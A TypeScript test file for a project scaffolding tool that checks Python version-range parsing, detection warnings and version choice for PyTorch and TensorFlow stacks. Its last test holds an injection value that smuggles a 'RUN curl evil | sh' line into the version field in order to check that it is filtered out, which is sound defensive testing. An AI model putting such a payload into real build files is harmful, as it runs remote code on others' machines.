/**
 * Python version ranges read through PEP 440: a range (`>=3.8`) is reported as its lowest allowed X.Y and is never
 * called a pin; the scaffold picks a Python inside the range that the framework release supports, and says so.
 */
import * as assert from 'node:assert/strict';
import { detectProject } from '../../src/core/detect/detect';
import type { ProjectProfile } from '../../src/core/detect/types';
import { pythonRequirement, pythonsAllowed } from '../../src/core/detect/versions';
import { chooseStack } from '../../src/core/scaffold/stack';
import { tempDir, writeTree } from './helpers';

const TRAIN = 'import torch\nmodel = torch.nn.Linear(2, 2)\nloss = model(x).sum()\nloss.backward()\noptimizer.step()\n';

function profile(over: Partial<ProjectProfile>): ProjectProfile {
  return {
    root: '/p',
    isTrainingProject: true,
    frameworks: ['pytorch'],
    primaryFramework: 'pytorch',
    envFiles: ['pyproject.toml'],
    pythonVersion: null,
    entrypoints: ['train.py'],
    launcher: null,
    cudaHint: null,
    needsGpu: 'yes',
    notebooks: 0,
    evidence: [],
    warnings: [],
    ...over,
  };
}

describe('Python ranges (PEP 440)', () => {
  it('tells a range from a pin, and gives a range its lowest allowed X.Y', () => {
    assert.deepEqual(pythonRequirement('>=3.8'), { version: '3.8', pinned: false, allows: '>=3.8' });
    assert.deepEqual(pythonRequirement('>=3.9,<3.12'), { version: '3.9', pinned: false, allows: '>=3.9,<3.12' });
    assert.deepEqual(pythonRequirement('~=3.10'), { version: '3.10', pinned: false, allows: '~=3.10' });
    assert.deepEqual(pythonRequirement('^3.10'), { version: '3.10', pinned: false, allows: '>=3.10,<4' });
    assert.equal(pythonRequirement('>=2.7, !=3.0.*, !=3.1.*')?.pinned, false);
    // pins: exactly one X.Y allowed
    assert.deepEqual(pythonRequirement('==3.10.*'), { version: '3.10', pinned: true, allows: '==3.10.*' });
    assert.equal(pythonRequirement('~=3.10.0')?.pinned, true);
    assert.equal(pythonRequirement('3.10')?.pinned, true); // conda `python 3.10`, Poetry `3.10`
    assert.equal(pythonRequirement('=3.8')?.pinned, true); // conda `python=3.8`
    assert.equal(pythonRequirement('>=3.8,<3.9')?.pinned, true);
    // no lower bound, or not a version
    assert.equal(pythonRequirement('<3.12'), null);
    assert.equal(pythonRequirement('*'), null);
    assert.equal(pythonRequirement('python'), null);
    assert.deepEqual(pythonsAllowed({ allows: '>=3.9,<3.12' }), ['3.9', '3.10', '3.11']);
    assert.deepEqual(pythonsAllowed({ allows: '>=2.7,!=3.0.*,!=3.1.*' }).slice(0, 3), ['2.7', '3.2', '3.3']);
  });

  it('detection reports a range as what it allows, and a range never disagrees with a pin it allows', async () => {
    const t = tempDir();
    try {
      writeTree(t.dir, {
        'train.py': TRAIN,
        'pyproject.toml': '[project]\nname = "x"\nrequires-python = ">=3.8"\ndependencies = ["torch"]\n',
      });
      const range = await detectProject(t.dir);
      assert.equal(range.pythonVersion, '3.8'); // the contract: a range gives its lowest allowed version
      assert.equal(range.pythonRange, '>=3.8');
      assert.deepEqual(range.warnings, []);

      writeTree(t.dir, { '.python-version': '3.11\n' });
      const pinned = await detectProject(t.dir);
      assert.equal(pinned.pythonVersion, '3.11');
      assert.equal(pinned.pythonRange, undefined);
      assert.deepEqual(pinned.warnings, [], '>=3.8 allows 3.11: no "pins Python 3.8" warning');

      writeTree(t.dir, {
        'pyproject.toml': '[project]\nname = "x"\nrequires-python = ">=3.12"\ndependencies = ["torch"]\n',
      });
      const disagree = await detectProject(t.dir);
      assert.deepEqual(
        disagree.warnings.map((w) => w.message),
        ['line 3 allows Python >=3.12, but .python-version line 1 pins 3.11; using 3.11.'],
      );
    } finally {
      t.cleanup();
    }
  });

  it('the scaffold picks a Python inside the range that the framework supports, and says so', () => {
    const stack = chooseStack(profile({ pythonVersion: '3.8', pythonRange: '>=3.8' }), []);
    assert.equal(stack.python, '3.10'); // the newest PyTorch in the table supports 3.10 and on
    assert.match(stack.why[0]!, /^Python 3\.10: the project allows >=3\.8 and PyTorch 2\.\d+ supports Python 3\.10-/);
    assert.ok(!stack.why.some((w) => /Python .*pins/.test(w)), stack.why.join('\n'));

    // the oldest allowed already supported: kept
    const tf = chooseStack(
      profile({
        frameworks: ['tensorflow'],
        primaryFramework: 'tensorflow',
        pythonVersion: '3.11',
        pythonRange: '>=3.11',
      }),
      [],
    );
    assert.equal(tf.python, '3.11');
    assert.match(tf.why[0]!, /^Python 3\.11: the oldest the project allows \(>=3\.11\); TensorFlow 2\.\d+ supports/);

    // nothing both allow: the project's range wins, with a note
    const old = chooseStack(profile({ pythonVersion: '3.6', pythonRange: '>=3.6,<3.9' }), []);
    assert.equal(old.python, '3.6');
    assert.match(old.why[0]!, /^Python 3\.6: the oldest the project allows \(>=3\.6,<3\.9\); note: PyTorch/);

    // a pin is still a pin
    const pin = chooseStack(profile({ pythonVersion: '3.8' }), []);
    assert.equal(pin.python, '3.8');
    assert.equal(pin.why[0], 'Python 3.8: the project pins it.');

    // CPU and JAX (no Python table): the oldest allowed
    const cpu = chooseStack(
      profile({ frameworks: [], primaryFramework: null, pythonVersion: '3.9', pythonRange: '>=3.9,<3.12' }),
      [],
    );
    assert.equal(cpu.python, '3.9');
    assert.equal(cpu.why[0], 'Python 3.9: the oldest the project allows (>=3.9,<3.12).');
  });

  it('a range that is not plain version text is never written into the files', () => {
    const stack = chooseStack(profile({ pythonVersion: '3.8', pythonRange: '>=3.8\nRUN curl evil | sh' }), []);
    assert.ok(!stack.why.join('\n').includes('evil'));
  });
});
